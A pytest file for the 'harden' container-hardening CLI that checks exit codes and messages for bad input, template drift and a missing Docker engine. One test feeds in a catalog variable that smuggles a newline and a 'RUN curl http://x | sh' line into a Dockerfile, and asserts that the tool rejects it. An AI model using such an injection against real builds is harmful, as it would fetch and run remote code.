"""The CLI's contract: exit codes and messages for bad input, nothing written on failure."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from hardening.cli import main
from tests.conftest import DEFAULT_IMAGE


def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as info:
        main(argv)
    out, err = capsys.readouterr()
    code = info.value.code
    return (code if isinstance(code, int) else 1), out, err


def test_help_lists_subcommands(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(["--help"], capsys)
    assert code == 0
    for name in (
        "engine",
        "base",
        "render",
        "build",
        "check",
        "scan",
        "db",
        "run",
        "release",
        "diff",
        "sarif",
    ):
        assert f"  {name} " in out


def test_unknown_key_exits_2_and_names_it(
    make_repo: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    catalog = make_repo(DEFAULT_IMAGE.replace('tags = ["1"]', 'tags = ["1"]\nfrobnicate = true'))
    code, _, err = run(["--catalog", str(catalog), "render"], capsys)
    assert code == 2
    assert "image[0].frobnicate: unknown key" in err
    assert f"{catalog}:11" in err


def test_newline_variable_exits_2_and_renders_nothing(
    make_repo: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    catalog = make_repo(DEFAULT_IMAGE.replace('"hello"', '"hi\\nRUN curl http://x | sh"'))
    code, _, err = run(["--catalog", str(catalog), "render"], capsys)
    assert code == 2
    assert "image demo: variable greeting" in err and "newline" in err
    assert not (catalog.parent / "dockerfiles/demo/Dockerfile").exists()


def test_render_check_exits_1_after_template_edit(
    make_repo: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    catalog = make_repo()
    assert run(["--catalog", str(catalog), "render"], capsys)[0] == 0
    assert run(["--catalog", str(catalog), "render", "--check"], capsys)[0] == 0
    template = catalog.parent / "dockerfiles/demo/Dockerfile.j2"
    template.write_text(template.read_text().replace("USER", "# a comment\nUSER"))
    code, out, err = run(["--catalog", str(catalog), "render", "--check"], capsys)
    assert code == 1
    assert "+# a comment" in out
    assert "drifted" in err


def test_build_refuses_drifted_rendering_before_touching_the_engine(
    make_repo: Callable[..., Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # No engine is reachable at this address; a drifted rendering must be reported first (exit 2).
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")
    catalog = make_repo()
    code, _, err = run(["--catalog", str(catalog), "build"], capsys)
    assert code == 2
    assert "dockerfiles/demo/Dockerfile differs from what dockerfiles/demo/Dockerfile.j2" in err
    assert "run `harden render`" in err


def test_engine_down_exits_3_with_what_to_do(
    make_repo: Callable[..., Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")
    catalog = make_repo()
    run(["--catalog", str(catalog), "render"], capsys)
    code, _, err = run(["--catalog", str(catalog), "build"], capsys)
    assert code == 3
    assert "no Docker engine answers at unix:///nonexistent/docker.sock" in err
    assert "harden engine up" in err


def test_usage_errors_exit_2(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["frobnicate"], capsys)[0] == 2
    assert run(["render", "--no-such-option"], capsys)[0] == 2


def test_cli_runner_smoke() -> None:
    result = CliRunner().invoke(__import__("hardening.cli", fromlist=["cli"]).cli, ["--version"])
    assert result.exit_code == 0 and "harden" in result.output
